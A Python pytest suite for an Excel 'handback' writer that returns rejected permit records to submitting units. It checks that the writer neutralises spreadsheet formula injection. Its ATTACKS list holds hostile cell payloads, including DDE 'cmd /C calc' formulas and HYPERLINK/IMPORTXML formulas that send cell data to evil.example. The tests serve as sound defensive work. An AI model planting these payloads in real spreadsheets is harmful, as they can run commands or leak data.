"""The workbook for the units, read back by a library that did not write it, and what an attacker would put into a row."""

from __future__ import annotations

import json
import os
import re
import stat
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.catalog.loader import load_catalogs
from gateway.catalog.model import Catalog
from gateway.delivery.handback import Handback, Part, cell_text, write_handback
from gateway.errors import DeliveryError
from gateway.store.quarantine import Reason, Stage, StoredCase
from tests.nodes import MAPPINGS

NOW = datetime(2026, 9, 1, 8, 30, tzinfo=UTC)
OURS = 8  # columns in front of the unit's own
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "'=1+1",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "file:///c:/windows/system32/calc.exe",
    "00123",
    "1e5",
    "12345678901234567890",
    "TRUE",
    "2026-09-01",
    "{=1+1}",
    "<b>&amp;\"'",
    "_x000D_=1+1",
    "a\x00b\x01c\x1b[2J\x7f\x85",
    "\u202egnp.exe",
    "\ud800 half",
    "\ufffe\uffff",
    "字" * 40_000,
    "𠮷" * 20_000,
    "=" + "A" * 40_000,
    "",
    "   ",
)


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalogs(MAPPINGS).catalogs["administrative-license"]


def case(
    number: int, row: Mapping[str, object], *reasons: Reason, stage: Stage = Stage.SOURCE, **changes: object
) -> StoredCase:
    facts: dict[str, object] = {
        "id": number,
        "exchange": "permits-to-province",
        "source": "permits",
        "stage": stage,
        "key": str(number),
        "locator": f"第 {number} 行",
        "unit": "11230700001001013H",
        "row": json.dumps(row, ensure_ascii=False),
        "row_digest": b"",
        "reasons": reasons or (wrong("decided_on", "XK_JDRQ", "date-invalid", "yyyy-MM-dd"),),
        "opened_run": "r",
        "last_run": "r",
        "opened_at": "2026-08-30T01:02:03.000000Z",
        "closed_at": None,
        "closed_why": None,
    }
    return StoredCase(**{**facts, **changes})  # type: ignore[arg-type]


def wrong(field: str, source: str, code: str, expected: str = "") -> Reason:
    return Reason(field=field, source=source, code=code, weight="reject", value_class="3 chars, CJK", expected=expected)


def given_cases(cases: Sequence[StoredCase]) -> Callable[[str], Iterator[StoredCase]]:
    return lambda exchange: (case for case in cases if case.exchange == exchange)


def written(
    file: Path, catalog: Catalog, cases: Sequence[StoredCase], columns: Sequence[str] = (), **how: object
) -> Handback:
    part = Part(exchange="permits-to-province", catalog=catalog, columns=columns)
    return write_handback(file, [part], given_cases(cases), now=NOW, **how)  # type: ignore[arg-type]


def sheet(file: Path, name: str | None = None, *, headings: bool = True) -> pl.DataFrame:
    """A sheet as another library reads it, every cell as it is typed there."""
    found = pl.read_excel(
        file,
        sheet_name=name or "permits-to-province",
        has_header=headings,
        drop_empty_rows=False,
        drop_empty_cols=False,
        infer_schema_length=None,
        raise_if_empty=False,
    )
    assert isinstance(found, pl.DataFrame)
    return found


def parts(file: Path) -> dict[str, str]:
    with zipfile.ZipFile(file) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_the_units_own_columns_and_what_is_wrong_in_words(catalog: Catalog, tmp_path: Path) -> None:
    file = tmp_path / "退回.xlsx"
    row = {"XK_WSH": "黑森交许〔2026〕2号", "XK_JDRQ": "九月一日", "自有栏": None}
    reasons = (
        wrong("decided_on", "XK_JDRQ", "date-invalid", "yyyy-MM-dd"),
        wrong("subject_code", "XK_XDR_SHXYM", "required-missing"),
    )
    done = written(file, catalog, [case(7, row, *reasons)], ["XK_JDRQ", "XK_WSH"])
    assert (done.rows.total(), done.units, done.codes["date-invalid"]) == (1, {"11230700001001013H": 1}, 1)
    frame = sheet(file)
    assert frame.columns[:OURS] == ["编号", "环节", "归集单位", "位置", "首次发现", "有误字段", "问题", "应当怎样"]
    assert frame.columns[OURS:] == ["XK_JDRQ", "XK_WSH", "自有栏"], (
        "in the order that the unit knows, and what came besides"
    )
    told = frame.row(0)
    assert told[:5] == ("7", "目录校验", "11230700001001013H", "第 7 行", "2026-08-30")
    assert told[5] == f"{catalog.field('decided_on').zh}\n{catalog.field('subject_code').zh}"
    assert told[6].startswith("1. “")
    assert "XK_JDRQ" in told[6]
    assert "\n2. " in told[6]
    assert "yyyy-MM-dd" in told[7]
    assert told[OURS:] == ("九月一日", "黑森交许〔2026〕2号", "")
    counts = sheet(file, "汇总", headings=False)
    assert counts.row(0)[:2] == ("疑问数据退回清单", "2026-09-01 08:30 UTC")
    assert ("permits-to-province", "", "1") in counts.rows()
    assert ("date-invalid", "日期不合规", "1") in counts.rows()


def test_in_english_too(catalog: Catalog, tmp_path: Path) -> None:
    written(tmp_path / "a.xlsx", catalog, [case(1, {"A": "1"})], language="en")
    assert sheet(tmp_path / "a.xlsx").columns[:3] == ["Case", "Stage", "Unit"]


def test_what_format_or_receiver_refused_has_a_sheet_with_the_catalogs_names(catalog: Catalog, tmp_path: Path) -> None:
    content = {"document_number": "2", "decided_on": "2026-09-01"}
    by_format = case(
        1, {"content": json.dumps(content)}, wrong("subject_name", "XK_XDR_MC", "too-long", "200"), stage=Stage.FORMAT
    )
    by_receiver = case(
        2,
        {"version": 3, "content": content},
        Reason(field="", source="XK_XDR_SHXYM", code="x", weight="reject", value_class="", expected="=校验码不符"),
        stage=Stage.RECEIVER,
    )
    file = tmp_path / "a.xlsx"
    written(file, catalog, [case(3, {"XK_WSH": "3"}), by_format, by_receiver], ["XK_WSH"])
    assert sheet(file).height == 1
    refused = sheet(file, "permits-to-province 退回")
    assert refused["编号"].to_list() == ["1", "2"]
    assert refused[catalog.field("document_number").zh].to_list() == ["2", "2"]
    assert refused["环节"].to_list() == ["格式校验", "接收方"]
    assert "校验码不符" in refused["问题"][1]


def test_what_only_could_not_be_repeated_is_not_the_units_affair(catalog: Catalog, tmp_path: Path) -> None:
    ours = case(1, {"content": "{}"}, wrong("", "", "as-sent-erased"), stage=Stage.FORMAT)
    with pytest.raises(DeliveryError, match="handback-empty"):
        written(tmp_path / "a.xlsx", catalog, [ours])
    assert list(tmp_path.iterdir()) == [], "no file, and nothing left of the attempt"


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_a_hostile_value_stays_text(catalog: Catalog, tmp_path: Path, attack: str) -> None:
    """In a cell, in a heading, in the place, the unit and the receiver's words."""
    file = tmp_path / "a.xlsx"
    reason = Reason(field="", source=attack[:50], code="x", weight="reject", value_class="", expected=attack)
    hostile = case(1, {"A": attack, attack[:100] or "B": "v"}, locator=attack, unit=attack)
    refused = case(2, {"content": {"document_number": attack}}, reason, stage=Stage.RECEIVER, unit=attack)
    written(file, catalog, [hostile, refused], [])
    for name, text in parts(file).items():
        assert "<f>" not in text, f"{name}: a formula"
        assert "<f " not in text
        assert "<hyperlink" not in text, f"{name}: a link"
        assert "externalLink" not in name
        if name.startswith("xl/worksheets/"):
            cells = re.findall(r"<c ([^>]*)>", text)
            assert cells
            assert all('t="inlineStr"' in cell or cell.endswith("/") for cell in cells), "text in every cell"
    value = sheet(file)["A"][0]
    if not attack.strip():
        return
    assert isinstance(value, str), "neither a number nor a date nor a truth"
    if attack[0] in "=+-@\t\r\n\0＝＋－＠":
        assert value.startswith("'")
    assert len(value.encode("utf-16-le")) // 2 <= 32_767
    if len(attack.encode("utf-16-le", "surrogatepass")) // 2 > 32_000:
        assert value.endswith("……（内容过长，以下未列）")
        assert value.lstrip("'")[:100] == attack[:100]
    elif not set(attack) & set("\t\r\n\0\x01\x1b\x7f\x85\u202e\ud800\ufffe\uffff"):
        assert value in {attack, f"'{attack}"}, "nothing else is changed"


@given(text=st.text(st.characters(), max_size=50))
@settings(max_examples=300, deadline=None)
def test_every_text_becomes_a_harmless_one(text: str) -> None:
    shown = cell_text(text, "…")
    assert not shown or shown[0] not in "=+-@\t\r\n\0＝＋－＠"
    assert all(sign == "\n" or sign >= " " for sign in shown)
    shown.encode()
    assert cell_text("abc", "…") == "abc"


def test_the_file_is_the_owners_alone_and_replaces_nothing(catalog: Catalog, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    before = os.umask(0o000)
    try:
        written(file, catalog, [case(1, {"A": "1"})])
    finally:
        os.umask(before)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    first = file.read_bytes()
    with pytest.raises(DeliveryError, match="handback-exists"):
        written(file, catalog, [case(2, {"A": "2"})])
    assert file.read_bytes() == first
    written(file, catalog, [case(2, {"A": "2"})], force=True)
    assert sheet(file)["编号"].to_list() == ["2"]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert [entry.name for entry in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_file_that_appears_meanwhile_is_not_replaced(catalog: Catalog, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"

    def cases(_exchange: str) -> Iterator[StoredCase]:
        file.write_text("somebody else's")
        yield case(1, {"A": "1"})

    with pytest.raises(DeliveryError, match="handback-exists"):
        write_handback(file, [Part(exchange="permits-to-province", catalog=catalog)], cases, now=NOW)
    assert file.read_text() == "somebody else's"
    assert [entry.name for entry in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_failure_on_the_way_leaves_nothing(catalog: Catalog, tmp_path: Path) -> None:
    def cases(_exchange: str) -> Iterator[StoredCase]:
        yield case(1, {"A": "1"})
        raise DeliveryError("run-stopped")

    with pytest.raises(DeliveryError, match="run-stopped"):
        write_handback(tmp_path / "a.xlsx", [Part(exchange="permits-to-province", catalog=catalog)], cases, now=NOW)
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(DeliveryError, match="handback-unwritable"):
        written(tmp_path / "nowhere" / "a.xlsx", catalog, [case(1, {"A": "1"})])


def test_one_sheet_for_each_exchange_whatever_their_names(catalog: Catalog, tmp_path: Path) -> None:
    names = ["permits-to-province-of-heilongjiang", "permits-to-province-of-heilongjiang-2", "汇总", "a"]
    cases = [case(number, {"A": str(number)}, exchange=name) for number, name in enumerate(names, 1)]
    file = tmp_path / "a.xlsx"
    listed = [Part(exchange=name, catalog=catalog) for name in names]
    write_handback(file, listed, given_cases(cases), now=NOW)
    titles = re.findall(r'<sheet name="([^"]+)"', parts(file)["xl/workbook.xml"])
    assert len(titles) == len({title.lower() for title in titles}) == 5
    assert all(len(title) <= 31 for title in titles)
    assert titles[0] == "汇总"


def test_headings_stay_in_sight_and_wrong_cells_are_marked(catalog: Catalog, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    both = wrong("subject_code", "A + B", "identifier-invalid", "GB 32100-2015")
    written(file, catalog, [case(1, {"A": "1", "B": "2", "C": "3"}, both)], ["A", "B", "C"])
    text = parts(file)["xl/worksheets/sheet2.xml"]
    assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in text
    assert text.count("customWidth=") > 5
    styles = dict(re.findall(r'<c r="([I-K]2)" s="(\d+)"', text))
    assert styles["I2"] == styles["J2"] != styles["K2"]


def test_more_rows_than_a_sheet_takes_go_on_in_another(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("gateway.delivery.handback._MOST_ROWS", 3)
    file = tmp_path / "a.xlsx"
    done = written(file, catalog, [case(number, {"A": str(number)}) for number in range(1, 6)])
    assert done.rows.total() == 5
    assert [
        sheet(file, name)["编号"].to_list()
        for name in ("permits-to-province", "permits-to-province 2", "permits-to-province 3")
    ] == [
        ["1", "2"],
        ["3", "4"],
        ["5"],
    ]
